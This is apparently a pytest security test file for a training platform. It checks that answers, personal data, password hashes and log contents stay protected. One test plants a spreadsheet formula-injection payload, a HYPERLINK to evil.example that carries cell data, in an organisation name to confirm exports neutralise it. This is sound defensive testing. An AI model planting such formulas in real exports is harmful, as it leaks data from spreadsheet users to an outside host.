"""Secrets stay where they belong: no answer or feedback before an assessment is marked, no names or
emails in counts exports (and no formula that a spreadsheet would run), no password hash in any log."""

from __future__ import annotations

import io
import logging
import re

from openpyxl import load_workbook
from sqlalchemy import select

from authoring import build
from lms.db import db
from lms.models import Organisation, User
from lms.services.publishing import publish
from tests.builders import KNOWLEDGE_CHECK, MULTI_QUESTION, PASSWORD, QUESTION, settings_cell, write_notebook
from tests.conftest import csrf_token
from tests.security.conftest import api_token, signed_client

FEEDBACK = ["Right. They know the local routes.", "No. Concerns must be shared.", "No. That is not a report.",
            "No. Some hate incidents are not crimes.", "Right. An incident can be recorded even when it is not a crime."]
MARKERS = re.compile(r"sl-feedback|data-correct|correct_options|answer_key|\bcorrect\b|\[x\]", re.IGNORECASE)


def _publish_quiz(app, tmp_path) -> None:
    notebook = write_notebook(tmp_path / "quiz" / "quiz.ipynb", "# Hate incidents\n\nSome incidents are not crimes.", KNOWLEDGE_CHECK,
                              "# Assessment\n\nAnswer both questions.", QUESTION, MULTI_QUESTION,
                              settings=settings_cell(id="quiz-module", title="Quiz module"))
    report = build([notebook], tmp_path / "build")
    assert report.built and not report.failed, report.problems
    with app.app_context():
        publish(db.session, tmp_path / "build")
        db.session.remove()


def test_is_no_answer_or_feedback_sent_before_marking(app, world, tmp_path):
    _publish_quiz(app, tmp_path)
    learner, token = signed_client(app, world.users["learner"])
    pages = {path: learner.get(path) for path in ("/my-training", "/modules/quiz-module", "/modules/quiz-module/pages/1",
                                                  "/modules/quiz-module/print", "/modules/quiz-module/assessment")}
    started = learner.post("/modules/quiz-module/assessment", data={"csrf_token": token})
    assert started.status_code == 302
    attempt = started.headers["Location"]
    pages[attempt] = learner.get(attempt)
    html = pages[attempt].get_data(as_text=True)
    first_question = re.search(r'name="(answer-[0-9]+)" type="radio" value="(\w+)"', html)
    pages[attempt + " (half answered)"] = learner.post(attempt, data={"csrf_token": token, first_question.group(1): first_question.group(2)})
    for where, response in pages.items():
        body = response.get_data(as_text=True)
        assert response.status_code == 200, where
        assert not [text for text in FEEDBACK if text in body], f"feedback in {where}"
        assert not MARKERS.search(body), f"{MARKERS.search(body).group(0)!r} in {where}"
        ticked = re.findall(r'value="(\w+)" checked', body)
        assert ticked == ([first_question.group(2)] if "half answered" in where else []), f"options ticked for the learner in {where}"

    # The same check finds feedback once it is due: after a knowledge check is answered.
    check = learner.get("/modules/quiz-module/pages/1").get_data(as_text=True)
    question = re.search(r'name="question" value="([^"]+)"', check).group(1)
    option = re.search(rf'name="{question}" type="radio" value="(\w+)"', check).group(1)
    answered = learner.post("/modules/quiz-module/pages/1", data={"csrf_token": token, "question": question, question: option})
    assert any(text in answered.get_data(as_text=True) for text in FEEDBACK)


def _people(app) -> list[tuple[str, str]]:
    with app.app_context():
        people = [(u.email, u.full_name) for u in db.session.scalars(select(User))]
        db.session.remove()
    assert len(people) >= 6
    return people


def _xlsx_cells(body: bytes) -> list:
    workbook = load_workbook(io.BytesIO(body))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def test_do_counts_exports_hold_no_names_or_emails(app, world):
    people = _people(app)
    exports = {}
    for role in ("org_admin", "partnership_lead", "site_admin"):
        client, _token = signed_client(app, world.users[role])
        for table in ("counts", "types", "modules", "trend", "compliance"):
            for fmt in ("csv", "xlsx"):
                response = client.get(f"/reports/export/{table}.{fmt}")
                assert response.status_code == 200, f"{role} {table}.{fmt}"
                exports[f"{role} {table}.{fmt}"] = (response.get_data(as_text=True) if fmt == "csv"
                                                    else " ".join(str(c.value) for c in _xlsx_cells(response.data)))
    anonymous, _token = signed_client(app, None)
    exports["api"] = anonymous.get("/api/v1/counts", headers={"Authorization": f"Bearer {api_token(1)}"}).get_data(as_text=True)
    exports["command line"] = app.test_cli_runner().invoke(args=["report", "export", "--format", "json"]).output
    assert "Our Council" in exports["site_admin counts.csv"]  # the exports really hold the counts
    leaks = [f"{name}: {text}" for name, body in exports.items() for pair in people for text in pair if text in body]
    assert leaks == []
    assert not [name for name, body in exports.items() if "scrypt:" in body or "!not-used" in body]


def test_is_a_formula_in_an_organisation_name_neutralised_in_exports(app, world):
    with app.app_context():
        organisation = db.session.get(Organisation, world.own.organisation_id)
        organisation.name = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
        db.session.commit()
        db.session.remove()
    admin, _token = signed_client(app, world.users["site_admin"])
    csv_text = admin.get("/reports/export/counts.csv").get_data(as_text=True)
    assert "'=HYPERLINK(" in csv_text
    assert not re.search(r'(^|,)"?=HYPERLINK', csv_text, re.MULTILINE)
    cells = _xlsx_cells(admin.get("/reports/export/counts.xlsx").data)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert any(str(c.value).startswith("'=HYPERLINK(") or str(c.value).startswith("=HYPERLINK(") and c.data_type == "s" for c in cells)


def test_does_no_password_or_hash_reach_the_logs(app, session, caplog):
    from tests.builders import make_organisation, make_user

    organisation = make_organisation(session)
    user = make_user(session, organisation, email="logged@testville.example")
    session.commit()
    stored_hash = user.password_hash
    session.close()
    client = app.test_client()
    with caplog.at_level(logging.DEBUG):
        for password in ("wrong password entirely", PASSWORD):
            page = client.get("/sign-in").get_data(as_text=True)
            client.post("/sign-in", data={"email": "logged@testville.example", "password": password, "csrf_token": csrf_token(page)})
        client.post("/sign-out", data={"csrf_token": csrf_token(client.get("/my-training").get_data(as_text=True))})
        page = client.get("/register").get_data(as_text=True)
        client.post("/register", data={"full_name": "New Person", "email": "new@nowhere.example", "password": "a new long passphrase 42",
                                       "confirm": "a new long passphrase 42", "csrf_token": csrf_token(page)})
        page = client.get("/forgot-password").get_data(as_text=True)
        client.post("/forgot-password", data={"email": "logged@testville.example", "csrf_token": csrf_token(page)})
    text = "\n".join(record.getMessage() + (record.exc_text or "") for record in caplog.records)
    for secret in (stored_hash, "scrypt:", PASSWORD, "wrong password entirely", "a new long passphrase 42"):
        assert secret not in text
